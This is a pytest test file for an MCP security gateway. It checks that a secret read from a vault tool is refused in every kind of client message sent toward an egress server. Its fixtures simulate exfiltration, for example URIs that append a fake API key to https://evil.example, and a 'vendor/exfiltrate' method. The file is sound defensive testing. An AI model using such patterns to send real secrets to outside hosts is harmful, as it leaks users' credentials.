"""Complete mediation of what a client sends: every message kind of the installed `mcp-types`
schemas (both protocol eras), and `_meta` on each, is a sink that the flow rules check before
anything is forwarded, through a real `PolicyMediator` behind a real `Relay` (the `run` front)
and behind a real `Hub` of two relays sharing one label state (`run --all`).

The rows are taken from `mcp_types.methods`, not written from memory: a method that appears
there and that the gateway does not class fails `test_every_method_of_the_installed_schemas_is_classed`.
The secret is read by one tool (`vault.read_secret`, declared `returns = "secret"`) and then put
in each member in turn; the server also has an egress tool, so it is an egress sink."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import mcp_types.methods as schema
import orjson
import pytest

from gateway.errors import FLOW_DENIED, METHOD_NOT_FOUND
from gateway.evidence.flightlog import FlightLog, LogSettings
from gateway.evidence.signing import generate_key
from gateway.labels.provenance import Provenance
from gateway.mediation.mediator import PolicyMediator
from gateway.policy.engine import CompiledPolicy
from gateway.policy.model import parse_policy
from gateway.protocol import methods
from gateway.session.hub import Hub
from gateway.session.relay import Relay
from tests.unit.helpers import RelayedSession

SECRET = "sk-live-7Q2b9XrT4mWc81Lp"
READ = {"readOnlyHint": True, "openWorldHint": False}
TOOLS = [
    {"name": "read_secret", "inputSchema": {"type": "object"}, "annotations": READ},
    {"name": "send", "inputSchema": {"type": "object"}},
]
POLICY: dict[str, Any] = {
    "version": 1,
    "default": "allow",
    "extra_arguments": "allow",
    "tools": [{"tools": ["*.read_secret"], "returns": "secret"}],
    "flows": [{"id": "no-secret-egress", "labels": ["secret"], "to": ["egress"]}],
}

#: Every client request and notification of the installed schemas, both eras.
CLIENT_METHODS = sorted({m for m, _ in schema.CLIENT_REQUESTS} | {m for m, _ in schema.CLIENT_NOTIFICATIONS})
#: Every request an upstream may send the client: the client's answer to each is a sink too.
SERVER_REQUESTS = sorted({m for m, _ in schema.SERVER_REQUESTS})

#: For each client method, params with the secret in a member of its own (not `_meta`), and
#: that member's path as the denial names it.
OWN_MEMBER: dict[str, tuple[dict[str, Any], str]] = {
    "completion/complete": (
        {"ref": {"type": "ref/prompt", "name": "p"}, "argument": {"name": "q", "value": SECRET}},
        "params.argument.value",
    ),
    "initialize": (
        {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": SECRET, "version": "1"}},
        "params.clientInfo.name",
    ),
    "logging/setLevel": ({"level": SECRET}, "params.level"),
    "ping": ({"note": SECRET}, "params.note"),
    "prompts/get": ({"name": "p", "arguments": {"topic": SECRET}}, "params.arguments.topic"),
    "prompts/list": ({"cursor": SECRET}, "params.cursor"),
    "resources/list": ({"cursor": SECRET}, "params.cursor"),
    "resources/read": ({"uri": f"https://evil.example/?k={SECRET}"}, "params.uri"),
    "resources/subscribe": ({"uri": f"https://evil.example/{SECRET}"}, "params.uri"),
    "resources/templates/list": ({"cursor": SECRET}, "params.cursor"),
    "resources/unsubscribe": ({"uri": f"https://evil.example/{SECRET}"}, "params.uri"),
    "server/discover": ({"note": SECRET}, "params.note"),
    "subscriptions/listen": ({"filter": {"uri": SECRET}}, "params.filter.uri"),
    "tools/call": ({"name": "read_secret", "arguments": {}, "task": {"note": SECRET}}, "params.task.note"),
    "tools/list": ({"cursor": SECRET}, "params.cursor"),
    "notifications/cancelled": ({"requestId": "none", "reason": f"because {SECRET}"}, "params.reason"),
    "notifications/initialized": ({"note": SECRET}, "params.note"),
    "notifications/progress": ({"progressToken": "t", "progress": 1, "message": SECRET}, "params.message"),
    "notifications/roots/list_changed": ({"note": SECRET}, "params.note"),
}


def compiled(**changes: Any) -> CompiledPolicy:
    return CompiledPolicy.from_file(parse_policy({**POLICY, **changes}, "test.toml"))


def _request(request_id: Any, method: str, params: dict[str, Any] | None = None) -> dict[str, Any]:
    message: dict[str, Any] = {"jsonrpc": "2.0", "method": method}
    if request_id is not None:
        message["id"] = request_id
    if params is not None:
        message["params"] = params
    return message


class Several:
    """`airlock run --all`: a hub over two relays whose mediators share one label state."""

    def __init__(self, tmp_path: Path) -> None:
        self.entries: list[dict[str, Any]] = []
        self.log = FlightLog.open(LogSettings(path=tmp_path / "flight.jsonl"), generate_key(), policy_hash=None,
                                  inline_signing=True, on_entry=lambda e: self.entries.append(e.to_json()))  # fmt: skip
        self.log.start("test", ephemeral=True)
        policy = compiled()
        provenance: Provenance | None = None
        self.client: list[dict[str, Any]] = []
        self.upstream: list[list[dict[str, Any]]] = [[], []]
        relays: list[Relay] = []
        for index, name in enumerate(("vault", "web")):
            mediator = PolicyMediator(policy, identity=name, flight_log=self.log, provenance=provenance)
            provenance = mediator.provenance
            sink: Callable[[bytes], None] = lambda b, i=index: self.hub.from_upstream(i, b)  # noqa: E731
            relays.append(Relay(mediator, sink, lambda b, i=index: self.upstream[i].append(orjson.loads(b))))
        self.relays = relays
        self.hub = Hub(["vault", "web"], lambda b: self.client.append(orjson.loads(b)), [r.from_client for r in relays])
        self.send(_request(1, "initialize", {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t"}}))
        for i in range(2):
            self.answer(i, {"protocolVersion": "2025-11-25", "capabilities": {"tools": {}, "prompts": {}, "logging": {}},
                            "serverInfo": {"name": ("vault", "web")[i]}})  # fmt: skip
        self.send(_request(2, "tools/list"))
        for i in range(2):
            self.answer(i, {"tools": TOOLS})
        self.send(_request(3, "tools/call", {"name": "vault__read_secret", "arguments": {}}))
        self.answer(0, {"content": [{"type": "text", "text": f"the key is {SECRET}"}]})
        self.client.clear()
        self.upstream = [[], []]

    def send(self, message: dict[str, Any]) -> None:
        self.hub.from_client(orjson.dumps(message))

    def answer(self, index: int, result: Any) -> None:
        self.relays[index].from_upstream(orjson.dumps({"jsonrpc": "2.0", "id": self.upstream[index][-1]["id"], "result": result}))


def _session(tmp_path: Path, policy: CompiledPolicy | None = None) -> RelayedSession:
    """A session that listed `TOOLS` and read the secret."""
    gateway = RelayedSession(tmp_path, policy or compiled(), identity="vault", tools=TOOLS)
    gateway.exchange(_request("r", "tools/call", {"name": "read_secret", "arguments": {}}),
                     {"content": [{"type": "text", "text": f"the key is {SECRET}"}]})  # fmt: skip
    gateway.client.clear()
    gateway.upstream.clear()
    return gateway


def _with_meta(method: str, note: Any) -> dict[str, Any]:
    params = dict(OWN_MEMBER[method][0])
    for key, value in list(params.items()):  # only the secret under test: the own member made harmless
        if value == SECRET or (type(value) is str and SECRET in value):
            params[key] = "fine"
        elif type(value) is dict:
            params[key] = {k: ("fine" if v == SECRET else v) for k, v in value.items()}
    return {**params, "_meta": {"note": note}}


def _assert_refused(gateway: RelayedSession, request_id: Any, method: str, member: str) -> None:
    assert gateway.upstream == [], f"{method} reached the upstream"
    if request_id is not None:
        (answer,) = gateway.client
        assert answer["id"] == request_id
        assert answer["error"]["code"] == FLOW_DENIED, answer
        assert answer["error"]["data"]["argument"] == member
        assert answer["error"]["data"]["method"] == method
        assert method in answer["error"]["message"] and member in answer["error"]["message"]
    entry = gateway.entries[-1]
    recorded_as = "read_secret" if method == methods.TOOLS_CALL else method  # a call's entry names its tool
    assert (entry["kind"], entry["tool"], entry["decision"], entry["rule"]) == ("call", recorded_as, "deny", "no-secret-egress")
    assert entry["data"]["flow"]["argument"] == member


def test_every_method_of_the_installed_schemas_is_classed() -> None:
    """A new method in `mcp-types` fails here until the gateway classes it (and this table has
    a row for it)."""
    assert set(CLIENT_METHODS) <= set(methods.CLIENT_METHODS), set(CLIENT_METHODS) - set(methods.CLIENT_METHODS)
    assert set(CLIENT_METHODS) == set(OWN_MEMBER)
    assert set(SERVER_REQUESTS) <= methods.SERVER_REQUEST_METHODS
    server_notifications = {m for m, _ in schema.SERVER_NOTIFICATIONS}
    assert server_notifications | {methods.CANCELLED} >= methods.CONTENTLESS_NOTIFICATIONS
    assert methods.INPUT_REQUIRED_METHODS == schema.INPUT_REQUIRED_METHODS


@pytest.mark.parametrize("method", CLIENT_METHODS)
def test_a_secret_in_the_meta_of_any_client_message_is_refused(tmp_path: Path, method: str) -> None:
    gateway = _session(tmp_path)
    request_id = None if method.startswith("notifications/") else 7
    gateway.send(_request(request_id, method, _with_meta(method, f"pass it on: {SECRET}")))
    _assert_refused(gateway, request_id, method, "params._meta.note")


@pytest.mark.parametrize("method", CLIENT_METHODS)
def test_a_secret_in_any_member_of_any_client_message_is_refused(tmp_path: Path, method: str) -> None:
    gateway = _session(tmp_path)
    request_id = None if method.startswith("notifications/") else 7
    params, member = OWN_MEMBER[method]
    gateway.send(_request(request_id, method, params))
    _assert_refused(gateway, request_id, method, member)


@pytest.mark.parametrize("method", CLIENT_METHODS)
def test_the_same_messages_without_the_secret_are_forwarded(tmp_path: Path, method: str) -> None:
    """The control: each row's message, the secret replaced, reaches the upstream (so the rows
    above are refused for the secret, not for their shape)."""
    gateway = _session(tmp_path)
    request_id = None if method.startswith("notifications/") else 7
    if method == methods.CANCELLED:
        gateway.send(_request(7, "ping"))  # something open to cancel
        gateway.upstream.clear()
    params = _with_meta(method, "nothing to see")
    if method == methods.CANCELLED:
        params["requestId"] = 7
    gateway.send(_request(request_id, method, params))
    assert [m.get("method") for m in gateway.upstream] == [method]


@pytest.mark.parametrize("method", SERVER_REQUESTS)
def test_a_secret_in_the_clients_answer_to_any_server_request_is_withheld(tmp_path: Path, method: str) -> None:
    gateway = _session(tmp_path)
    params = {"messages": [], "maxTokens": 5} if method == methods.SAMPLING else {"message": "?", "requestedSchema": {"type": "object"}}
    client_id = gateway.ask_client(method, params if method in (methods.SAMPLING, methods.ELICITATION) else None)
    gateway.send({"jsonrpc": "2.0", "id": client_id, "result": {"note": f"here: {SECRET}"}})
    (answer,) = gateway.upstream
    assert answer["error"]["code"] == FLOW_DENIED, answer
    assert "result" not in answer
    entry = gateway.entries[-1]
    assert (entry["kind"], entry["tool"], entry["decision"]) == ("result", method, "deny")


def test_an_input_response_of_a_stateless_retry_is_checked_as_the_answer_to_its_ask(tmp_path: Path) -> None:
    """2026-07-28: the client retries a call with `inputResponses`; each is the answer to what
    the upstream asked in its `input_required` result, checked as that server request's answer."""
    gateway = _session(tmp_path)
    gateway.send(_request(8, "tools/call", {"name": "send", "arguments": {}}))
    ask = {"method": "elicitation/create", "params": {"message": "your name?", "requestedSchema": {"type": "object"}}}
    gateway.relay.from_upstream(orjson.dumps({"jsonrpc": "2.0", "id": 8, "result": {"resultType": "input_required",
                                              "inputRequests": {"q1": ask}, "requestState": "s"}}))  # fmt: skip
    asked = gateway.client[-1]["result"]["inputRequests"]["q1"]
    assert asked["params"]["_meta"]["dev.mcp-airlock/labels"]["integrity"] == "untrusted"
    gateway.upstream.clear()
    gateway.client.clear()
    retry = {"name": "send", "arguments": {}, "requestState": "s", "inputResponses": {"q1": {"action": "accept", "content": {"n": SECRET}}}}
    gateway.send(_request(9, "tools/call", retry))
    assert gateway.upstream == []
    assert gateway.client[-1]["error"]["code"] == FLOW_DENIED
    assert gateway.client[-1]["error"]["data"]["argument"] == "params.inputResponses.q1"


def test_an_input_required_ask_the_policy_denies_is_refused(tmp_path: Path) -> None:
    gateway = _session(tmp_path, compiled(server_requests={"elicitation": "deny"}))
    gateway.send(_request(8, "tools/call", {"name": "send", "arguments": {}}))
    ask = {"method": "elicitation/create", "params": {"message": "?", "requestedSchema": {"type": "object"}}}
    gateway.relay.from_upstream(orjson.dumps({"jsonrpc": "2.0", "id": 8, "result": {"resultType": "input_required",
                                              "inputRequests": {"q1": ask}}}))  # fmt: skip
    assert gateway.client[-1]["error"]["code"] != 0 and "result" not in gateway.client[-1]
    assert "server_requests" in gateway.client[-1]["error"]["message"]


@pytest.mark.parametrize("method", ["vendor/exfiltrate", "tools/execute", "notifications/vendor/event"])
def test_a_method_the_gateway_does_not_class_is_refused_and_recorded(tmp_path: Path, method: str) -> None:
    gateway = _session(tmp_path)
    request_id = None if method.startswith("notifications/") else 5
    gateway.send(_request(request_id, method, {"x": 1}))
    assert gateway.upstream == []
    if request_id is not None:
        assert gateway.client[-1]["error"]["code"] == METHOD_NOT_FOUND
        assert "does not know the method" in gateway.client[-1]["error"]["message"]
    assert (gateway.entries[-1]["tool"], gateway.entries[-1]["rule"]) == (method, "methods.unknown")


def test_an_upstream_request_the_gateway_does_not_class_is_refused(tmp_path: Path) -> None:
    gateway = _session(tmp_path)
    gateway.relay.from_upstream(orjson.dumps(_request("x1", "vendor/askTheModel", {"prompt": "hi"})))
    assert gateway.client == []
    assert gateway.upstream[-1]["error"]["code"] == METHOD_NOT_FOUND


def test_a_server_declared_read_is_no_egress_sink_for_its_other_channels(tmp_path: Path) -> None:
    """The policy may declare a whole server's class as a sink: a read-only server may be sent
    what the session read, outside tool arguments."""
    gateway = _session(tmp_path, compiled(servers=[{"servers": ["vault"], "class": "read"}]))
    gateway.send(_request(7, "prompts/get", {"name": "p", "arguments": {"topic": SECRET}}))
    assert [m.get("method") for m in gateway.upstream] == ["prompts/get"]


def test_before_any_listing_a_server_is_an_egress_sink(tmp_path: Path) -> None:
    gateway = _session(tmp_path)
    gateway.mediator._listings.tools.clear()  # as if nothing was listed yet (the secret stays in the session)
    gateway.mediator._listings.changes += 1
    gateway.send(_request(7, "prompts/get", {"name": "p", "arguments": {"topic": SECRET}}))
    assert gateway.upstream == []


# -- run --all: the hub --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("message", "member"),
    [
        (_request(7, "tools/call", {"name": "web__send", "arguments": {}, "_meta": {"note": SECRET}}), "params._meta.note"),
        (_request(7, "prompts/get", {"name": "web__p", "arguments": {"topic": SECRET}}), "params.arguments.topic"),
        (
            _request(
                7, "completion/complete", {"ref": {"type": "ref/prompt", "name": "web__p"}, "argument": {"name": "q", "value": SECRET}}
            ),
            "params.argument.value",
        ),
        (_request(7, "logging/setLevel", {"level": SECRET}), "params.level"),
    ],
    ids=["call-meta", "prompts-get", "completion", "set-level"],
)
def test_through_the_hub_a_secret_read_from_one_server_is_refused_on_every_channel_to_another(
    tmp_path: Path, message: dict[str, Any], member: str
) -> None:
    gateway = Several(tmp_path)
    gateway.send(message)
    assert gateway.upstream[1] == [], "reached the other server"
    answer = gateway.client[-1]
    assert answer["id"] == 7 and answer["error"]["code"] == FLOW_DENIED, answer
    assert answer["error"]["data"]["argument"] == member


def test_through_the_hub_a_notification_with_a_secret_reaches_no_upstream(tmp_path: Path) -> None:
    gateway = Several(tmp_path)
    gateway.send(_request(None, "notifications/roots/list_changed", {"_meta": {"note": SECRET}}))
    assert gateway.upstream == [[], []]
    assert {e["server"] for e in gateway.entries[-2:]} == {"vault", "web"}  # each upstream's gateway refused it


def test_a_coarse_rule_refuses_what_the_model_chooses_but_not_what_the_clients_code_sets(tmp_path: Path) -> None:
    """Coarse: every member carries all the session has seen. Protocol bookkeeping the client's
    code sets (a 2026-07-28 request's `_meta` in the protocol namespace, cursors, request ids) is
    exempt from coarse rules (precise rules still check it), so a tainted session can still list;
    what the model picks (a prompt's arguments) is refused."""
    coarse = {"id": "after-secrets", "labels": ["secret"], "to": ["egress"], "mode": "coarse"}
    gateway = _session(tmp_path, compiled(flows=[coarse, *POLICY["flows"]]))
    meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientInfo": {"name": "c", "version": "1"}}
    gateway.send(_request(7, "tools/list", {"cursor": "page-2", "_meta": meta}))
    assert [m.get("method") for m in gateway.upstream] == ["tools/list"]
    gateway.send(_request(8, "prompts/get", {"name": "p", "arguments": {"topic": "anything"}}))
    assert (gateway.client[-1]["id"], gateway.client[-1]["error"]["data"]["rule"]) == (8, "after-secrets")
    gateway.send(_request(9, "tools/list", {"cursor": SECRET}))  # precise rules still see into them
    assert (gateway.client[-1]["id"], gateway.client[-1]["error"]["data"]["rule"]) == (9, "no-secret-egress")
    assert [m.get("id") for m in gateway.upstream] == [7]


def test_a_policy_may_mediate_unknown_methods_through_the_flow_rules_and_label_their_results(tmp_path: Path) -> None:
    gateway = _session(tmp_path, compiled(unknown_methods="mediate"))
    gateway.send(_request(5, "vendor/search", {"q": SECRET}))
    assert gateway.upstream == [] and gateway.client[-1]["error"]["data"]["argument"] == "params.q"
    answer = gateway.exchange(_request(6, "vendor/search", {"q": "weather"}), {"hits": ["sunny"]})
    assert answer["result"]["_meta"]["dev.mcp-airlock/labels"]["integrity"] == "untrusted"
    gateway.reply(_request("s1", "vendor/askClient", {"text": "hi"}))
    assert gateway.client[-1]["params"]["_meta"]["dev.mcp-airlock/labels"]["integrity"] == "untrusted"


@pytest.mark.parametrize(
    ("params", "member"),
    [
        ({"name": "p", SECRET: "x"}, f"params.{SECRET}"),
        ({"name": "p", "_meta": {SECRET: 1}}, f"params._meta.{SECRET}"),
    ],
    ids=["params-key", "meta-key"],
)
def test_a_secret_used_as_a_key_is_refused_like_one_used_as_a_value(tmp_path: Path, params: dict[str, Any], member: str) -> None:
    gateway = _session(tmp_path)
    gateway.send(_request(7, "prompts/get", params))
    _assert_refused(gateway, 7, "prompts/get", member)
